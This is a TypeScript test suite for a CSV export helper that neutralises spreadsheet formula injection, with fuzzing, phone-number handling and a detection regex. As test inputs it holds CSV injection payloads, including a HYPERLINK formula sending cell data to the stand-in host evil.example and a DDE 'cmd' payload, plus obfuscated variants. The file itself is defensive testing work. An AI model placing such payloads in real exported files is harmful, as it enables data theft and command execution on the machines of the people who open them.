import fc from 'fast-check'
import { getCountries, getCountryCallingCode, parsePhoneNumberFromString } from 'libphonenumber-js/max'
import { describe, expect, it } from 'vitest'
import { toCsvCell, toCsvRow } from './csv.ts'

/** What a program sees that honours the quotes: the cell as a person finds it. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)

const STARTS_FORMULA = /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]/u

describe('toCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"open")'],
    ["=cmd|' /C calc'!A0"],
    ['+1+cmd|x'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['  =1+1'],
    ['\u00a0=1+1'],
    ['\u200b=1+1'],
    ['\ufeff=1+1'],
    ['\u0001=1+1'],
    ['\u0000=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(A1)'],
    ['"=1+1'],
    ["'=1+1"],
    ['+33612345678=1'],
    ['+336123456789012345'],
  ])('shows %j as text, never as a formula', (text) => {
    expect(unquote(toCsvCell(text))).not.toMatch(STARTS_FORMULA)
  })

  it('neutralises a formula after a separator that another program would split at', () => {
    expect(toCsvCell('hello;=1+1')).toBe('"hello;\'=1+1"')
    expect(toCsvCell('hello";=1+1')).toBe('"hello"";\'=1+1"')
    expect(toCsvCell('hello\n=1+1')).toBe('"hello\n\'=1+1"')
    expect(toCsvCell('hello\t @SUM(A1)')).toBe('"hello\t\' @SUM(A1)"')
    expect(toCsvCell(['a', '=1+1'])).toBe('"a;\' =1+1"')
  })

  it('leaves ordinary text as it is, quotes doubled', () => {
    expect(toCsvCell('Ada Lovelace')).toBe('"Ada Lovelace"')
    expect(toCsvCell('ada@example.org')).toBe('"ada@example.org"')
    expect(toCsvCell('dit "oui", puis-je ? 1+1=2')).toBe('"dit ""oui"", puis-je ? 1+1=2"')
    expect(toCsvCell("l’été, à 20 % ; aujourd'hui")).toBe('"l’été, à 20 % ; aujourd\'hui"')
  })

  it.each([
    [0, '0'],
    [-42, '-42'],
    [3.5, '3.5'],
    [1e21, '1e+21'],
    [12n, '12'],
    [true, 'true'],
    [false, 'false'],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
    [null, ''],
    [undefined, ''],
    ['', ''],
    [[], ''],
    [['a', 'b'], '"a; b"'],
    [{ a: 1 }, '"{""a"":1}"'],
    [new Date(0), '1970-01-01T00:00:00.000Z'],
    [new Date(Number.NaN), ''],
  ])('writes %o as %s', (value, cell) => {
    expect(toCsvCell(value)).toBe(cell)
  })

  it('does not take text that looks like a number for one', () => {
    expect(toCsvCell('-42')).toBe('"\'-42"')
    expect(toCsvCell('0042')).toBe('"0042"')
  })

  it('removes what no file should hold: half a surrogate pair, NUL', () => {
    expect(toCsvCell('a\ud800b\u0000c')).toBe('"a\ufffdbc"')
  })

  it('keeps a phone number readable and dialable for every calling code', () => {
    for (const country of getCountries()) {
      const code = getCountryCallingCode(country)
      expect(toCsvCell(`+${code}12345678`)).toBe(`"(+${code})12345678"`)
    }
    expect(toCsvCell(['+33612345678'])).toBe('"(+33)612345678"')
    expect(parsePhoneNumberFromString('(+33)612345678'.replaceAll(/[()]/g, ''))?.number).toBe('+33612345678')
  })

  it('never begins a formula, whatever the text, the separator and the reader', () => {
    const nasty = fc.string({
      unit: fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        ';',
        ',',
        '\t',
        '\n',
        '\r',
        '"',
        "'",
        ' ',
        'a',
        '1',
        '＝',
        '\u200b',
        '|',
      ),
      maxLength: 20,
    })
    fc.assert(
      fc.property(fc.oneof(nasty, fc.string({ unit: 'binary' })), (text) => {
        const cell = unquote(toCsvCell(text))
        expect(cell).not.toMatch(STARTS_FORMULA)
        // A reader deaf to quotes, splitting at whatever it likes.
        for (const piece of cell.split(/[,;|\t\n\r"]/)) expect(piece).not.toMatch(STARTS_FORMULA)
      }),
      { numRuns: 1000 },
    )
  })

  it('stays linear on text made of separators', () => {
    const startedAt = performance.now()
    for (const unit of ['\n', '\t', '\n ', ', ', ' ', "'", '\u200b']) toCsvCell(`a${unit.repeat(200_000)}a`)
    expect(performance.now() - startedAt).toBeLessThan(2000)
  })
})

describe('toCsvRow', () => {
  it('joins cells with commas and ends the line with CRLF', () => {
    expect(toCsvRow(['a,b', 1, null, '+33612345678'])).toBe('"a,b",1,,"(+33)612345678"\r\n')
  })
})
